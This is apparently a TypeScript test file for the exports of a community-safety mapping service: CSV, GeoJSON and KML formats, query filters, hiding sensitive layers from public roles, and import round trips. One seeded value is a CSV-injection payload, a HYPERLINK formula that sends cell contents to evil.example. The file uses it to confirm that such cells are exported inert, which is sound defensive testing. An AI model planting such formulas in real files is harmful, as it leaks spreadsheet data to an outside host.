import { DOMParser } from '@xmldom/xmldom';
import iconv from 'iconv-lite';
import type request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../server/export/spreadsheet-cells.js';
import { LAYERS } from '../server/layers/registry.js';
import { postImport } from './support/imports.js';
import { binary } from './support/mvt.js';
import { metresBetween, tm2 } from './support/tm2.js';
import { openWorld, writeCounts, type World } from './support/world.js';

/**
 * Exports: every layer as GeoJSON, CSV (UTF-8 with a byte-order mark or Big5; WGS84 or TWD97
 * columns) and KML, filtered like the feature listing, holding exactly what the caller may read
 * (a public export leaks no sensitive layer, property or value), and importing back to the same
 * features, into the same database (nothing changes) and into an empty one (the same features).
 */
let w: World;
let empty: World;
beforeAll(async () => {
  [w, empty] = await Promise.all([openWorld(), openWorld()]);
  // Test databases are copies of one template; the empty one stands for another installation.
  await empty.db.query('UPDATE service_instance SET id = gen_random_uuid()');
  const admin = w.as('admin');
  const post = async (layer: string, geometry: object | null, properties: object) =>
    (await admin.post(`/api/layers/${layer}/features`).send({ type: 'Feature', geometry, properties }).expect(201)).body.id as number;
  const pt = (lon: number, lat: number) => ({ type: 'Point', coordinates: [lon, lat] });
  await post('cameras', pt(120.2031234, 22.9941234), { name: '府前路, "東"口', azimuth: 135.5, fov: 70, range_m: 40, owner_kind: 'police', is_public: true, lpr: true, install_year: 2016, contact: SECRET });
  await post('cameras', pt(120.2041, 22.9961), { name: '民宅私設', azimuth: 10, fov: 60, range_m: 20, owner_kind: 'private', is_public: false, contact: SECRET });
  await post('cameras', pt(120.2251, 22.9951), { name: '海安路口', azimuth: 270, fov: 90, range_m: 50, owner_kind: 'community', is_public: true, status: 'broken' });
  await post('key-places', pt(120.2061, 22.9931), {
    name: '鐵皮工寮', address: '府前路 9 號', category: 'iron_sheet_house', listed_on: '2024-05-01', next_visit_due: '2026-06-30',
    indicators: { drug_lab: ['chemical_smell', 'covered_windows'] }, notes: SECRET,
  });
  // Text a spreadsheet would run as formulas (OWASP "CSV Injection"): exported inert, imported back as written.
  await post('key-places', pt(120.2066, 22.9936), {
    name: FORMULA, address: '+886-6-2222222', category: 'vacant_house', notes: '@SUM(1+1)\t-2+3',
  });
  await post('incidents', pt(120.2071, 22.9921), { type: 'fraud_withdrawal', occurred_at: '2025-11-03T21:15:00+08:00', source: 'cctv', description: SECRET });
  await post('watch-blocks', { type: 'Polygon', coordinates: [[[120.2011, 22.9911], [120.2034, 22.9911], [120.2034, 22.9933], [120.2011, 22.9933], [120.2011, 22.9911]]] },
    { name: '府前社區', adopter: '府前國小', adopter_kind: 'school', contact: SECRET, patrol_hours: '19:00-22:00' });
  await post('watch-teams', null, { name: '府前守望相助隊', precinct_code: 'P1', leader: SECRET, members: 12 });
});
afterAll(async () => { await Promise.all([w?.close(), empty?.close()]); });

const SECRET = '秘密聯絡人 0912-345-678';
const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"點此")';
const raw = (t: request.Test) => t.buffer(true).parse(binary);
const exported = (role: Parameters<World['as']>[0], query: string) => raw(w.as(role).get(`/api/export/${query}`));
const text = (b: Buffer) => b.toString('utf8');

describe('formats', () => {
  it('CSV for Excel: a UTF-8 byte-order mark, Chinese headers and choices, quoting, and WGS84 columns', async () => {
    const res = await exported('admin', 'cameras?format=csv').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="cameras-\d{8}\.csv"$/);
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, first] = text(body.subarray(3)).split('\r\n');
    const { rows: [instance] } = await w.db.query<{ id: string }>('SELECT id::text FROM service_instance');
    expect(header).toBe('id,instance,名稱,方位角（度）,水平視角（度）,有效距離（公尺）,設置單位,狀態,車牌辨識,連網,可調整方向,建置年度,公開,聯絡人,警勤區,派出所,分局,經度,緯度');
    expect(first!.startsWith(`${first!.split(',')[0]},${instance!.id},`)).toBe(true);
    expect(first!.replace(`,${instance!.id}`, '')).toMatch(/^\d+,"府前路, ""東""口",135\.5,70,40,警察機關,正常,是,否,是,2016,是,秘密聯絡人 0912-345-678,B1,S1,P1,120\.2031234,22\.9941234$/);
  });

  it('CSV cells a spreadsheet would run as formulas are written inert: a quote before them, inside double quotes; numbers stay numbers', async () => {
    for (const variant of ['format=csv', 'format=csv&header=name', 'format=csv&encoding=big5']) {
      const res = await exported('admin', `key-places?${variant}`).expect(200);
      const csv = variant.includes('big5') ? iconv.decode(res.body as Buffer, 'cp950') : text((res.body as Buffer).subarray(3));
      const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
      expect(line, variant).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
      expect(line).toContain(`"'+886-6-2222222"`);
      expect(line).toContain(`"'@SUM(1+1)\t-2+3"`);
      // No cell of any row begins with a formula character outside that protection.
      for (const row of csv.split('\r\n')) expect(row, variant).not.toMatch(/(^|,)[=+@\t\r]|(^|,)-[^\d]/);
    }
    // Numbers are not formulas, whatever their sign; text that only starts like one is.
    expect([-3.5, '-3.5', '+12', '1e-3', '-1+1', '-', '@', '\r1', 'a=b'].map(csvCell)).toEqual(['-3.5', '-3.5', '+12', '1e-3', `"'-1+1"`, `"'-"`, `"'@"`, `"'\r1"`, 'a=b']);
  });

  it('CSV in Big5 with TWD97 columns that match Snyder\'s projection to a centimetre', async () => {
    const res = await exported('admin', 'cameras?format=csv&encoding=big5&crs=EPSG:3826&header=name').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=big5');
    const lines = iconv.decode(res.body as Buffer, 'cp950').split('\r\n');
    expect(lines[0]).toMatch(/^id,instance,name,azimuth,.*,TWD97_X,TWD97_Y$/);
    const row = lines.find((l) => l.includes('海安路口'))!.split(',');
    expect(row.slice(6, 8)).toEqual(['community', 'broken']);
    const [x, y] = tm2(120.2251, 22.9951);
    expect(Math.abs(Number(row.at(-2)) - x)).toBeLessThan(0.01);
    expect(Math.abs(Number(row.at(-1)) - y)).toBeLessThan(0.01);
  });

  it('GeoJSON (RFC 7946) as the feature API gives it, and KML with ExtendedData, for every kind of layer', async () => {
    const geojson = await exported('admin', 'watch-blocks').expect(200);
    expect(geojson.headers['content-type']).toBe('application/geo+json; charset=utf-8');
    const fc = JSON.parse(text(geojson.body as Buffer));
    const listed = await w.as('admin').get('/api/layers/watch-blocks/features').expect(200);
    expect(fc.features).toEqual(listed.body.features);
    const kml = await exported('admin', 'watch-blocks?format=kml').expect(200);
    const doc = new DOMParser().parseFromString(text(kml.body as Buffer), 'text/xml');
    const placemarks = doc.getElementsByTagName('Placemark');
    expect(placemarks.length).toBe(1);
    expect(placemarks[0]!.getElementsByTagName('coordinates')[0]!.textContent).toBe('120.2011,22.9911 120.2034,22.9911 120.2034,22.9933 120.2011,22.9933 120.2011,22.9911');
    const teams = await exported('admin', 'watch-teams?format=csv').expect(200);
    expect(text(teams.body as Buffer)).toMatch(/府前守望相助隊,P1,秘密聯絡人 0912-345-678,,12,\r\n$/);
  });

  it('filters like the feature listing, and refuses paging and unknown parameters', async () => {
    const broken = JSON.parse(text((await exported('admin', 'cameras?status=broken')).body as Buffer));
    expect(broken.features.map((f: { properties: { name: string } }) => f.properties.name)).toEqual(['海安路口']);
    const inBox = JSON.parse(text((await exported('admin', 'cameras?bbox=120.20,22.99,120.21,23.00')).body as Buffer));
    expect(inBox.features).toHaveLength(2);
    const dated = JSON.parse(text((await exported('admin', 'incidents?datetime=2025-11-01/2025-11-30')).body as Buffer));
    expect(dated.features).toHaveLength(1);
    expect(JSON.parse(text((await exported('admin', 'incidents?datetime=2025-12-01/..')).body as Buffer)).features).toHaveLength(0);
    for (const [q, field, code, message] of [
      ['cameras?limit=10', 'limit', 'export_no_paging', /^匯出一次包含所有符合條件的資料，不分頁：請拿掉「limit」/],
      ['cameras?cursor=abc', 'cursor', 'export_no_paging', /請拿掉「cursor」/],
      ['cameras?colour=red', 'colour', 'unknown_parameter', /不認得參數「colour」/],
      ['cameras?format=shp', 'format', 'export_format', /^「format」必須是 geojson、csv、kml 其中之一，不能是「shp」。$/],
      ['cameras?crs=EPSG:3828', 'crs', 'export_crs', /「crs」必須是 EPSG:4326（WGS84 經緯度）或 EPSG:3826（TWD97 TM2 公尺坐標），不能是「EPSG:3828」/],
      ['cameras?format=kml&crs=EPSG:3826', 'crs', 'export_crs_csv_only', /^KML一律使用 WGS84 經緯度；crs=EPSG:3826（TWD97）只適用於 CSV/],
      ['cameras?crs=EPSG:3826', 'crs', 'export_crs_csv_only', /^GeoJSON（RFC 7946）一律使用 WGS84 經緯度/],
      ['cameras?format=kml&encoding=big5', 'encoding', 'export_encoding_csv_only', /^KML 一律以 UTF-8 編碼；encoding 只適用於 CSV/],
      ['cameras?format=csv&encoding=latin1', 'encoding', 'encoding_not_written', /^無法以「latin1」編碼輸出檔案；請用 utf-8 或 big5。$/],
      ['cameras?format=csv&header=code', 'header', 'export_header', /^「header」必須是 label（中文欄名與選項名稱）或 name/],
    ] as const) {
      const res = await w.as('admin').get(`/api/export/${q}`).expect(400);
      expect(res.body.error, q).toMatchObject({ field, code });
      expect(res.body.error.message, q).toMatch(message);
    }
  });
});

describe('what each caller may take away', () => {
  const formats = ['geojson', 'csv', 'kml'];
  const SENSITIVE_LAYERS = ['key-places', 'visits', 'incidents', 'drone-surveys', 'patrol-points', 'patrol-signins'];

  it('gives the public and the community no sensitive layer, property or value, in any format', async () => {
    for (const role of ['public', 'community'] as const) {
      for (const layer of LAYERS) {
        for (const format of formats) {
          const res = await exported(role, `${layer.id}?format=${format}`);
          if (SENSITIVE_LAYERS.includes(layer.id)) {
            expect(res.status, `${role} ${layer.id}`).toBe(404);
            continue;
          }
          expect(res.status, `${role} ${layer.id} ${format}`).toBe(200);
          const body = text(res.body as Buffer);
          expect(body, `${role} ${layer.id} ${format}`).not.toContain(SECRET.slice(0, 5));
          for (const p of layer.properties.filter((x) => x.sensitive)) {
            expect(body, `${role} ${layer.id} ${format} ${p.name}`).not.toMatch(new RegExp(`"${p.name}"|\\b${p.name}\\b|${p.label}`));
          }
        }
      }
    }
    const publicCameras = JSON.parse(text((await exported('public', 'cameras')).body as Buffer));
    expect(publicCameras.features.map((f: { properties: { name: string } }) => f.properties.name).sort()).toEqual(['府前路, "東"口', '海安路口']);
    // A community account takes away what the public may, no more (its area adds no camera).
    const community = JSON.parse(text((await exported('community', 'cameras')).body as Buffer));
    expect(community.features.map((f: { properties: { name: string } }) => f.properties.name).sort()).toEqual(['府前路, "東"口', '海安路口']);
  });

  it('gives a planner its precinct only, and notes police exports in the audit log', async () => {
    const planner = JSON.parse(text((await exported('planner', 'cameras')).body as Buffer));
    expect(planner.features.map((f: { properties: { precinct_code: string } }) => f.properties.precinct_code)).toEqual(['P1', 'P1']);
    const { rows } = await w.db.query<{ detail: { layer: string; count: number } }>(`SELECT detail FROM audit_log WHERE action = 'export' AND actor = 'planner'`);
    expect(rows.at(-1)!.detail).toMatchObject({ layer: 'cameras', count: 2 });
  });
});

describe('round trips', () => {
  /** What makes two features the same: their properties without bookkeeping and derived values, and where they are. */
  const comparable = (layer: string, f: { geometry: { type: string; coordinates: unknown } | null; properties: Record<string, unknown> }) => {
    const def = LAYERS.find((l) => l.id === layer)!;
    const props = Object.fromEntries(def.properties.filter((p) => !p.derived).map((p) => [p.name, f.properties[p.name] ?? null]));
    return { props, geometry: f.geometry };
  };
  const near = (a: unknown, b: unknown): boolean => (Array.isArray(a) && typeof a[0] === 'number'
    ? metresBetween(a as [number, number], b as [number, number]) < 0.02
    : Array.isArray(a) && Array.isArray(b) && a.length === b.length && a.every((x, i) => near(x, b[i])));
  const features = async (world: World, layer: string) =>
    ((await world.as('admin').get(`/api/layers/${layer}/features?limit=1000`).expect(200)).body.features as Parameters<typeof comparable>[1][]).map((f) => comparable(layer, f));

  const LAYERS_TRIPPED = ['cameras', 'key-places', 'incidents', 'watch-blocks'];
  const VARIANTS = ['format=geojson', 'format=csv', 'format=csv&header=name', 'format=csv&encoding=big5&crs=EPSG:3826', 'format=kml'];

  it('imports every format back onto the same features, changing nothing', async () => {
    for (const layer of LAYERS_TRIPPED) {
      for (const variant of VARIANTS) {
        const file = (await exported('admin', `${layer}?${variant}`).expect(200)).body as Buffer;
        const before = await writeCounts(w.db, LAYERS.find((l) => l.id === layer)!.table);
        const back = await postImport(w, 'admin', layer, file, { filename: `${layer}.${variant.includes('kml') ? 'kml' : variant.includes('csv') ? 'csv' : 'geojson'}` }).expect(200);
        expect(back.body.counts, `${layer} ${variant}`).toMatchObject({ create: 0, update: 0, error: 0, unchanged: before.rows });
        expect(await writeCounts(w.db, LAYERS.find((l) => l.id === layer)!.table)).toEqual(before);
      }
    }
  });

  it('imports every format into another instance\'s empty database as the same features, added', async () => {
    for (const layer of LAYERS_TRIPPED) {
      const original = await features(w, layer);
      for (const variant of VARIANTS) {
        const file = (await exported('admin', `${layer}?${variant}`).expect(200)).body as Buffer;
        // The file's ids are the exporting instance's: here they find nothing and the rows are added.
        const res = await postImport(empty, 'admin', layer, file, { dryRun: true }).expect(200);
        expect(res.body.counts, `${layer} ${variant}`).toMatchObject({ create: original.length, error: 0 });
        const copies = (res.body.preview.features as Parameters<typeof comparable>[1][]).map((f) => comparable(layer, f));
        for (const [i, copy] of copies.entries()) {
          expect(copy.props, `${layer} ${variant}`).toEqual(original[i]!.props);
          expect(near(copy.geometry!.coordinates, original[i]!.geometry!.coordinates), `${layer} ${variant} geometry`).toBe(true);
        }
      }
    }
  });
});

